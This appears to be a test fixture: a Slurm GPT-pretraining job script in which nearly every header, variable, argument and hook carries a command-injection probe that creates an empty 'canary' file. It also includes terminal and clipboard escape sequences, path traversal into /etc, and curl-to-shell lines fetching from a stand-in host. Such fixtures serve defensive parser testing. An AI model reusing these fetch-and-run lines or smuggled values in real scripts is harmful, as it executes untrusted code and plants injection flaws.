#!/bin/bash
#SBATCH --job-name=]0;changed[31mred[0m-$(touch canary-01)
#SBATCH --nodes=2
#SBATCH --gres=gpu:h100:8
#SBATCH --output=`touch canary-02`.log

# Nothing here does harm: each place leaves an empty file canary-NN where it is run.
trap 'touch canary-03' EXIT DEBUG
PROMPT_COMMAND='touch canary-04'
BASH_ENV=./conf/rc.sh; ENV=$BASH_ENV

source <(curl -fsSL https://get.example.invalid/setup.sh)
curl -fsSL https://get.example.invalid/setup.sh | sh
. /etc/os-release
source ../../../../../../etc/hostname
source "$(touch canary-05; echo conf/rc.sh)"

NODES=${SLURM_NNODES:-$(touch canary-06; echo 2)}
GPUS=`touch canary-07; echo 8`
: ${TP:=$(touch canary-08; echo 2)}
idx=0; arr=(4 4)
PP=$(( arr[$(touch canary-09; echo 0)] ))
X='arr[$(touch canary-10)]'; (( X > 0 )) && PP=2
[[ -v 'arr[$(touch canary-11)]' ]] && PP=2
declare "MBS=$(touch canary-12; echo 1)"
printf -v GBS %d "$(touch canary-13; echo 64)"
eval "SEQ=4096; touch canary-14"
HOSTS=$(< /etc/hostname)
WHO="$PRETTY_NAME $HOSTS $(id)"
NAME="run[2J[H]52;c;aGVsbG8=-${WHO@P}"

cat <<EOF > canary-15.json
{"train_batch_size": $(touch canary-16; echo 64), "by": "$(id)"}
EOF
cat <<'EOF' > ../canary-17
not here
EOF
tee canary-18 >/dev/null <<< "text"
exec 3> canary-19
python3 -c "open('canary-20', 'w')"
python3 - <<'PY'
import os; os.system("touch canary-21")
PY
perl -e 'open(F, ">canary-22")'
awk 'BEGIN { system("touch canary-23") }'
find . -maxdepth 0 -exec touch canary-24 \;
xargs -I{} touch canary-25 <<< x
env -S bash -c 'touch canary-26'
make -f conf/Makefile
coproc touch canary-27
mapfile -t L < <(touch canary-28)

ARGS=(
    --num-layers "$(touch canary-29; echo 24)"   # $(touch canary-30)
    --hidden-size 2048
    --num-attention-heads 16
    --seq-length $SEQ
    --max-position-embeddings $SEQ
    --tensor-model-parallel-size $TP
    --pipeline-model-parallel-size $PP
    --micro-batch-size $MBS
    --global-batch-size $GBS
    --bf16
    --data-path '; touch canary-31 #'
    --save "$NAME"
    --load "|touch canary-32"
    --tokenizer-model "file:///etc/hostname"
    --yaml-cfg conf/extra.yaml
    --spec os system
)

srun --prolog="touch canary-33" bash -c "torchrun --nnodes=$NODES --nproc_per_node=$GPUS --node_rank=\$(touch canary-34; echo 0) \
    pretrain_gpt.py ${ARGS[*]} && touch canary-35; \$(touch canary-36)"
